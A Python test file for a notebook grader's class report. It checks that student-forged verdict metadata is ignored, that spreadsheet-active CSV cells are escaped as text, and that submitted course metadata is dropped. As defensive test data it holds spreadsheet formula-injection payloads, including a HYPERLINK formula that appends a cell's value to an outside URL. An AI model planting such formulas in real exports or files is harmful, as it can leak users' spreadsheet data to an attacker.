"""The class report trusts only the grader's own verdicts, and its CSV opens as text in a spreadsheet."""
import csv

import nbformat

from grader import report
from grader.nbgrader_plugin import InjectProbes


def _cell(kind, grade_id, grade, solution, course=None):
    cell = nbformat.v4.new_code_cell("") if kind == "code" else nbformat.v4.new_markdown_cell("")
    cell.metadata["nbgrader"] = {"grade": grade, "solution": solution, "grade_id": grade_id, "points": 1}
    if course is not None:
        cell.metadata["course"] = course
    return cell


def test_only_a_graded_test_cell_holds_a_verdict(tmp_path):
    """A written answer whose metadata a student filled with a 'verdict' (a formula, a wrong type) is not one."""
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        _cell("code", "test_x", True, False, {"verdict": {"score": 1.0, "points": 1.0, "mistake": None,
                                                          "message": "x: right", "finding": None}}),
        _cell("markdown", "why", True, True, {"verdict": {"mistake": '=HYPERLINK("http://x/?"&A1,"details")',
                                                          "message": "forged"}}),
        _cell("code", "test_y", True, False, {"verdict": 1}),
        _cell("code", "test_z", True, False, {"verdict": {"message": ["not", "text"]}}),
    ]
    path = tmp_path / "nb.ipynb"
    nbformat.write(nb, str(path))
    assert report._verdicts(path) == {"test_x": {"score": 1.0, "points": 1.0, "mistake": None,
                                                 "message": "x: right", "finding": None}}


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path):
    row = {c: "" for c in report.EXPORT_COLUMNS + report.PART_COLUMNS}
    row.update(student_id='=HYPERLINK("evil.example","y")', verdict="@SUM(A1)", mistake="-2+3", part_score=-0.5,
               score=2.0)
    report.write_csv([row], tmp_path / "grades.csv")
    with open(tmp_path / "grades.csv", newline="") as f:
        written = next(csv.DictReader(f))
    assert written["student_id"] == "'" + row["student_id"]
    assert written["verdict"] == "'@SUM(A1)" and written["mistake"] == "'-2+3"
    assert written["part_score"] == "-0.5" and written["score"] == "2.0"  # numbers stay numbers


def test_course_metadata_in_a_submission_is_dropped_before_grading(monkeypatch):
    """Only SealVerdicts writes a verdict; a generated cell's marker survives, anything else a submission
    carries under "course" does not."""
    nb = nbformat.v4.new_notebook()
    nb.cells = [_cell("markdown", "why", True, True, {"verdict": {"mistake": "forged", "message": "forged"}}),
                _cell("code", "values", False, False, {"generated": "values", "verdict": {"message": "x"}})]
    nb.cells[1].metadata["nbgrader"] = {"grade": False, "solution": False, "locked": True, "grade_id": "values"}
    monkeypatch.setenv("COURSE_GRADING_SEED", "1")
    resources = {"nbgrader": {"notebook": "no_such_notebook", "student": "s", "assignment": "a", "db_url": ""}}
    nb, _ = InjectProbes()(nb, resources)
    assert "course" not in nb.cells[0].metadata
    assert nb.cells[1].metadata["course"] == {"generated": "values"}
